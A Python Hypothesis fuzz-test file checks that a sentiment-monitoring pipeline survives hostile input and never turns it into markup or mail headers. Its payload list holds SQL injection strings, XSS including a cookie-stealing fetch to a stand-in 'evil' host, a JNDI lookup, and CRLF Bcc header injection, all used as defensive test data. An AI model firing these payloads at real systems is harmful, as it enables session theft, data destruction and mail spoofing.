"""Hostile input, fuzzed (hypothesis): random bytes, deep nesting, huge fields, control characters, right-to-left
overrides, zero-width characters, SQL and HTML/JS payloads in text and ids.

Properties: nothing raises out of the consumer path (validation, enrichment, scoring, serialisation); every
message is stored verbatim or dead-lettered with a stage and a reason (through the real broker and store);
nothing untrusted reaches a page or an e-mail as markup. ``tests/test_validate.py`` covers each bad input by
name; this file throws mixtures at the whole path.
"""

from __future__ import annotations

import email
import html
import json
import re
import uuid
from datetime import datetime, timedelta, timezone
from email import policy
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from kafka.consumer.fetcher import ConsumerRecord

from alerts.evidence import Evidence, drilldown_url
from alerts.model import Alert, fingerprint
from alerts.notification import Notification
from alerts.render import render_alert_email, render_digest_email
from dashboard.safe import http_url, md, plot_text
from ingest.scorer import ScorerOptions, preprocess, run_scorer, score
from ingest.validate import Accepted, Rejected, ValidationOptions, validate_message
from kafka_helpers import fresh_topics, produce
from monitor.config import Settings
from monitor.schemas import MAX_ID_CHARS, ScoredPost, Scores
from monitor.store.db import open_store
from monitor.store.posts import get_posts, upsert_posts
from monitor.store.tables import post_tickers, posts

NOW = datetime(2026, 3, 2, 12, 0, tzinfo=timezone.utc)
OPTIONS = ScorerOptions(validation=ValidationOptions(max_text_chars=2000), model_retries=1)

PAYLOADS = [
    "'; DROP TABLE posts; --", "\" OR \"1\"=\"1", "1; SELECT pg_sleep(10)", "Robert'); DELETE FROM alerts;--",
    "<script>alert(document.cookie)</script>", "<img src=x onerror=fetch('//evil/'+document.cookie)>",
    "\"><svg/onload=alert(1)>", "javascript:alert(1)", "[click](javascript:alert(1))", "![x](http://evil/t.png)",
    "</td></tr></table><h1>owned</h1>", "{{7*7}}${7*7}", "${jndi:ldap://evil/a}", "%s%n%x", "\\u0000\\n",
    "\u202egnp.exe\u202c", "\u200b\u200c\u200d\u2060\ufeff", "\u2028\u2029", "\r\nBcc: victim@example.org\r\n",
    "\x00\x01\x07\x08\x1b[31mred\x1b[0m\x7f", "e\u0301\u0301\u0301", "🧨💣" * 3, "مرحبا\u200fAAPL\u200e", "$AAPL $TSLA",
]
_hostile_piece = st.sampled_from(PAYLOADS) | st.text(max_size=12) | st.characters(codec="utf-8").map(str)
hostile_text = st.lists(_hostile_piece, min_size=1, max_size=6).map("".join)
huge_text = st.integers(1_000, 300_000).map(lambda n: "Acme plunges " + "ß<" * (n // 2))


def _nested(depth: int, leaf: object = "x") -> object:
    value = leaf
    for i in range(depth):
        value = [value] if i % 2 else {"k": value}
    return value


json_leaf = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | hostile_text
json_value = st.recursive(json_leaf, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(hostile_text, inner, max_size=3),
                          max_leaves=12)
deep = st.integers(1, 1500).flatmap(lambda d: st.sampled_from([_nested(d), _nested(d, "caf\u00e9 \u0000")]))

post_object = st.fixed_dictionaries(
    {"id": hostile_text | st.integers() | st.sampled_from(PAYLOADS), "text": hostile_text | huge_text},
    optional={"source": hostile_text | st.text(min_size=3000, max_size=3000), "author": hostile_text,
              "url": st.sampled_from(["https://news.example/a?b=<x>", "javascript:alert(1)", "http://", " https://x"])
              | hostile_text, "lang": hostile_text | json_value, "created_at": st.sampled_from(
                  ["2026-03-02T11:00:00Z", "2999-01-01T00:00:00Z", "2026-03-02T11:00:00", "yesterday", ""]) | json_value,
              "tickers": st.lists(hostile_text, max_size=70) | json_value, "meta": json_value | deep})


def _encode(obj: object, how: int) -> bytes:
    text = json.dumps(obj, ensure_ascii=bool(how % 2))  # \u escapes (NUL, lone surrogates) or raw UTF-8
    return text.encode("utf-8", "surrogatepass") if how == 2 else text.encode("utf-8", "replace")


hostile_message = st.one_of(
    st.binary(max_size=300),
    st.tuples(post_object, st.integers(0, 2)).map(lambda t: _encode(*t)),
    deep.map(lambda d: json.dumps({"id": "deep", "text": "Acme", "meta": d}).encode()),
    st.integers(1, 200_000).map(lambda n: b"[" * n + b"]" * n),
    st.sampled_from([b'{"id": "s1", "text": "lone \\ud800 surrogate \\udfff"}',
                     '{"id": "s2", "text": "raw \ud800 surrogate"}'.encode("utf-8", "surrogatepass")]),
    st.just(None),
)


def _record(value: bytes | None, offset: int) -> ConsumerRecord:
    return ConsumerRecord("posts.raw", 0, None, offset, 0, 0, None, value, [], None, -1,
                          len(value) if value else -1, -1)


class Neutral:
    """The model is not what is fuzzed here; a constant one keeps hundreds of examples fast."""

    version = "fuzz-constant"

    def predict(self, texts, langs=None):
        from models.classifier import Prediction

        return [Prediction("neutral", {"negative": 0.1, "neutral": 0.8, "positive": 0.1}, 0.0) for _ in texts]


@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(st.lists(hostile_message, min_size=1, max_size=8))
def test_nothing_raises_out_of_the_consumer_path_and_every_outcome_is_defined(values):
    records = [_record(v, i) for i, v in enumerate(values)]
    items, dead = preprocess(records, NOW, OPTIONS)
    items, refused = score(Neutral(), items, NOW, OPTIONS)
    assert len(items) + len(dead) + len(refused) == len(records)
    for d in dead + refused:
        assert d.stage in ("decode", "validate", "score") and d.error.strip()
        d.model_dump_json().encode()
    for item in items:
        assert item.scored is not None
        assert len(item.scored.model_dump_json().encode()) < 1_048_576  # what the producer sends
        assert item.scored.id and len(item.scored.id) <= MAX_ID_CHARS and item.scored.text.strip()


@settings(max_examples=300, deadline=None)
@given(hostile_message)
def test_validation_never_raises_and_refusals_say_why(value):
    out = validate_message(value, NOW, OPTIONS.validation)
    assert isinstance(out, (Accepted, Rejected))
    if isinstance(out, Rejected):
        assert out.stage in ("decode", "validate") and out.reason.strip()
    else:
        out.post.model_dump_json().encode("utf-8")


# -- through the real broker and the real store ------------------------------------------------------------


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
def shared_store(request, tmp_path_factory):
    """One store per backend for the module (hypothesis runs many examples per test); emptied per example."""
    if request.param == "sqlite":
        engine = open_store(f"sqlite:///{tmp_path_factory.mktemp('fuzz') / 'store.db'}")
        yield engine
        engine.dispose()
        return
    import psycopg

    from conftest import PG_ADMIN_URL, _pg_available

    if not _pg_available():
        pytest.skip(f"PostgreSQL not reachable at {PG_ADMIN_URL}")
    name = f"monitor_fuzz_{uuid.uuid4().hex[:10]}"
    with psycopg.connect(PG_ADMIN_URL, autocommit=True) as conn:
        conn.execute(f'CREATE DATABASE "{name}"')
    engine = open_store(f"{PG_ADMIN_URL.rsplit('/', 1)[0]}/{name}")
    yield engine
    engine.dispose()
    with psycopg.connect(PG_ADMIN_URL, autocommit=True) as conn:
        conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def _expected(values: list[bytes | None]) -> tuple[dict[str, str], int]:
    """What the store must hold afterwards (id -> text, the last copy of an id winning) and how many are refused."""
    expected, refused = {}, 0
    for v in values:
        out = validate_message(v, NOW, OPTIONS.validation)
        if isinstance(out, Accepted):
            expected[out.post.id] = out.post.text
        else:
            refused += 1
    return expected, refused


@settings(max_examples=3, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(hostile_message, min_size=60, max_size=120))
def test_hostile_streams_are_stored_verbatim_or_dead_lettered_with_a_reason(broker, shared_store, values):
    from fault_helpers import topic_copies

    with shared_store.begin() as conn:
        conn.execute(post_tickers.delete())
        conn.execute(posts.delete())
    kafka = fresh_topics(broker.bootstrap)
    produce(kafka.bootstrap, kafka.topics.raw, values)
    options = ScorerOptions.from_settings(Settings(kafka=kafka), group_id=f"g.{kafka.topics.raw}", max_idle_s=1.5,
                                          poll_timeout_ms=200, validation=OPTIONS.validation)
    stats = run_scorer(kafka, shared_store, Neutral(), options)
    expected, refused = _expected(values)
    assert stats.consumed == len(values)
    scored, dead = topic_copies(kafka)
    assert len(dead) == refused and all(d.error.strip() and d.stage in ("decode", "validate") for d in dead)
    stored = {p.id: p.text for p in get_posts(shared_store, list(expected))}
    assert stored == expected  # SQL in ids and texts stored as data, byte for byte, found by their id
    assert set(scored) == set(expected)


# -- nothing untrusted becomes markup -------------------------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(hostile_text)
def test_dashboard_escapes_show_text_literally(text):
    shown = md(text)
    assert "\n" not in shown
    assert re.sub(r"\\(.)", r"\1", shown) == text.replace("\n", " ")  # every special character escaped, none lost
    assert not re.search(r"(?<!\\)[<>\[\]()`*_!]", shown)
    label = plot_text(text)
    assert not re.search(r"[<>\"']", label) and html.unescape(label) == text


@settings(max_examples=300, deadline=None)
@given(hostile_text | st.sampled_from(["javascript:alert(1)", "JaVaScRiPt:x", "data:text/html,<b>", "//evil/x",
                                       "https://ok.example/p?q=<b>", "http://a b", "vbscript:x", "https://"]))
def test_only_absolute_http_links_are_ever_offered(url):
    link = http_url(url)
    if link is not None:
        assert link == url and re.match(r"^https?://[^\s/?#]+", link, re.I) and not any(ord(c) < 33 for c in link)


ALLOWED_TAGS = {"html", "body", "div", "b", "span", "br", "ul", "li", "img", "a", "code", "table", "tr", "th", "td",
                "h2", "h3", "p"}


class _Markup(HTMLParser):
    """The tags, attributes and text of an HTML document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.add(tag)
        self.attrs.extend(attrs)

    def handle_data(self, data) -> None:
        self.text.append(data)


def _alert(summary: str, series_key: str, rule: str, description: str) -> Alert:
    t = NOW - timedelta(minutes=15)
    return Alert(fingerprint=fingerprint(rule, "ticker", series_key), rule=rule, severity="critical", state="firing",
                 labels={"rule": rule, "ticker": series_key}, annotations={"summary": summary, "description": description},
                 receivers=("desk",), value=0.9, threshold=0.5, series_kind="ticker", series_key=series_key,
                 window_start=t, window_end=NOW, post_ids=("p1",), active_since=t, last_true_at=NOW, evaluated_at=NOW,
                 fired_at=NOW)


def _post(text: str, source: str, lang: str) -> ScoredPost:
    return ScoredPost(id="p1", text=text, source=source, created_at=NOW, received_at=NOW, lang=lang, label="negative",
                      scores=Scores(negative=0.8, neutral=0.1, positive=0.1), score=-0.7, model_version="v",
                      scored_at=NOW, dedup_key="k")


@settings(max_examples=150, deadline=None)
@given(hostile_text, hostile_text, hostile_text, hostile_text, hostile_text, hostile_text)
def test_alert_emails_carry_untrusted_text_as_text_never_as_markup_or_headers(summary, key, rule, text, source, lang):
    alert = _alert(summary, key, rule, text)
    evidence = Evidence(alert, drilldown_url("http://127.0.0.1:8501", alert), [_post(text, source, lang)], None)
    note = Notification("desk", "g1", {"ticker": key}, (alert,), NOW)
    subject, raw = render_alert_email(note, [evidence], sender="monitor@example.com", to="desk@example.com")
    assert raw.isascii()  # 7-bit: quoted-printable bodies, encoded headers
    msg = email.message_from_string(raw, policy=policy.default)
    assert msg.get_all("To") == ["desk@example.com"] and msg.get_all("Bcc") is None and msg.get_all("Cc") is None
    assert not re.search(r"[\r\n\x00]", str(msg["Subject"]))
    markup = _Markup()
    markup.feed(msg.get_body(preferencelist=("html",)).get_content())
    assert markup.tags <= ALLOWED_TAGS, markup.tags - ALLOWED_TAGS
    for name, value in markup.attrs:
        assert not name.startswith("on") and name in ("style", "src", "alt", "width", "height", "href", "cellpadding",
                                                      "align"), name
        if name in ("href", "src"):
            assert value and (value.startswith("http://127.0.0.1:8501/?") or value.startswith("cid:")), value


@settings(max_examples=100, deadline=None)
@given(st.lists(st.fixed_dictionaries({"rule": hostile_text, "series_key": hostile_text}), max_size=4),
       st.lists(hostile_text, max_size=3))
def test_digest_emails_carry_untrusted_text_as_text(fired, firing_now):
    _, raw = render_digest_email(to="desk@example.com", sender="monitor@example.com", day_end=NOW, fired=fired,
                                 firing_now=firing_now, dashboard_url="http://127.0.0.1:8501")
    msg = email.message_from_string(raw, policy=policy.default)
    markup = _Markup()
    markup.feed(msg.get_body(preferencelist=("html",)).get_content())
    assert markup.tags <= ALLOWED_TAGS and all(not n.startswith("on") for n, _ in markup.attrs)


def test_stored_hostile_posts_round_trip_through_the_store_unchanged(tmp_path):
    """The store keeps data as data: the escaping belongs to the renderers, not to the database."""
    engine = open_store(f"sqlite:///{tmp_path / 's.db'}")
    hostile = [_post(p, p[:50] or "s", "en").model_copy(update={"id": p[:200] or "empty"}) for p in PAYLOADS if p.strip()]
    upsert_posts(engine, hostile)
    back = {p.id: p.text for p in get_posts(engine, [p.id for p in hostile])}
    assert back == {p.id: p.text for p in hostile}
    engine.dispose()
